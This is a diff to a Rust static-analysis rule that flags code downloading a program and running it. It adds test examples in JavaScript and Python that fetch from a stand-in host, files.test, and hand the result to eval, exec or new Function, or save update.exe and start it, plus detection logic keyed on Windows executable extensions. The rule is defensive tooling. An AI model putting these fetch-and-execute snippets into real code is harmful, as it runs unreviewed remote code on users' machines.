@@ -4,7 +4,7 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 
-use crate::evidence::source::{Argument, Call};
+use crate::evidence::source::{Argument, Call, Origins};
 use crate::fact::{Confidence, Severity};
 use crate::rules::{FactSink, Rule, RuleMeta, Subject};
 
@@ -17,7 +17,7 @@ static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("
 
 const CARD: &str = r##"
 id = "source-download-and-execute"
-version = 1
+version = 2
 title = "A program is downloaded and run"
 why = "What is fetched at run time was in no review and can change any day."
 fix = "Ship the program or install it as a dependency with a digest."
@@ -45,6 +45,52 @@ import requests
 code = requests.get("https://files.test/a.py").text
 exec(code)
 '''
+[[examples.fires]]
+note = "An answer is handed to eval."
+[examples.fires.files]
+"a.js" = 'fetch("https://files.test/a.js").then((r) => r.text()).then(eval);'
+[[examples.fires]]
+note = "An answer is made a function, in the handler of an error."
+[examples.fires.files]
+"a.js" = '''
+const axios = require("axios");
+axios.get("https://files.test/a").then((res) => { const run = new Function.constructor("require", res.data.code); run(require); });'''
+[[examples.fires]]
+note = "An answer that comes in pieces."
+[examples.fires.files]
+"a.js" = '''
+const https = require("https");
+https.get("https://files.test/a", (res) => { let code = ""; res.on("data", (part) => { code += part; }); res.on("end", () => eval(code)); });'''
+[[examples.fires]]
+note = "An answer that a promise hands on."
+[examples.fires.files]
+"a.js" = '''
+const https = require("https");
+const load = () => new Promise((resolve) => https.get("https://files.test/a", (res) => { let all = ""; res.on("data", (d) => (all += d)); res.on("end", () => resolve(all)); }));
+load().then((text) => { new Function(text)(); });'''
+[[examples.fires]]
+note = "An answer that is read."
+[examples.fires.files]
+"x.py" = '''
+from urllib.request import urlopen
+exec(urlopen("https://files.test/a").read())
+'''
+[[examples.fires]]
+note = "A program is written to a file and started."
+[examples.fires.files]
+"x.py" = '''
+import os, subprocess, tempfile, urllib.request
+path = os.path.join(tempfile.gettempdir(), "update.exe")
+urllib.request.urlretrieve("https://files.test/update.exe", path)
+subprocess.Popen([path])
+'''
+[[examples.silent]]
+note = "A version that is asked for is part of a command."
+[examples.silent.files]
+"a.js" = '''
+const { execFileSync } = require("child_process");
+const version = await (await fetch("https://files.test/latest")).text();
+execFileSync("npm", ["view", `kit@${version}`]);'''
 [[examples.silent]]
 note = "A download that is kept."
 [examples.silent.files]
@@ -90,10 +136,18 @@ const INSTALLERS: [&str; 9] = [
 ];
 
 fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
-    if runs_shell(call) || call.callee.starts_with("child_process.") || call.callee.starts_with("subprocess.") {
-        let piped = call.arguments.iter().filter_map(text_of).find(|text| PIPED.is_match(text))?;
+    let starts =
+        runs_shell(call) || call.callee.starts_with("child_process.") || call.callee.starts_with("subprocess.");
+    let mut texts = call.arguments.iter().filter_map(text_of).filter(|_| starts);
+    if let Some(piped) = texts.find(|text| PIPED.is_match(text)) {
         let known = INSTALLERS.iter().any(|address| piped.contains(address));
         return Some(if known { (Severity::Low, Confidence::Medium) } else { (Severity::High, Confidence::High) });
+    }
+    if let Some(judged) = starts_fetched_file(call) {
+        return Some(judged);
+    }
+    if evaluates(call) && call.flows.arguments().any(Origins::ANSWER) {
+        return Some((Severity::High, Confidence::High));
     }
     let fetched = |argument: &Argument| match argument {
         Argument::Result(callee) => is_fetch(callee),
@@ -103,6 +157,26 @@ fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
         _ => false,
     };
     (evaluates(call) && call.arguments.iter().any(fetched)).then_some((Severity::High, Confidence::High))
+}
+
+/// A file that was just fetched is started. Installers of prebuilt parts do so too: it is worth less unless the file is
+/// named as a program for Windows, which no package manager's prebuilt part is fetched as.
+fn starts_fetched_file(call: &Call) -> Option<(Severity, Confidence)> {
+    let starts = call.callee.starts_with("child_process.")
+        || call.callee.starts_with("subprocess.")
+        || matches!(call.callee.as_str(), "os.startfile" | "os.system" | "os.popen")
+        || call.callee.starts_with("os.exec")
+        || call.callee.starts_with("os.spawn");
+    if !starts || !call.flows.first.any(Origins::FETCHED_FILE) {
+        return None;
+    }
+    let program = call.callee == "os.startfile"
+        || call.arguments.iter().filter_map(text_of).any(|text| {
+            let lower = text.to_ascii_lowercase();
+            [".exe", ".scr", ".bat", ".vbs", ".ps1"].iter().any(|end| lower.trim_end_matches(['"', ' ']).ends_with(end))
+        });
+    let severity = if program { Severity::High } else { Severity::Medium };
+    Some((severity, Confidence::Medium))
 }
 
 fn is_fetch(callee: &str) -> bool {
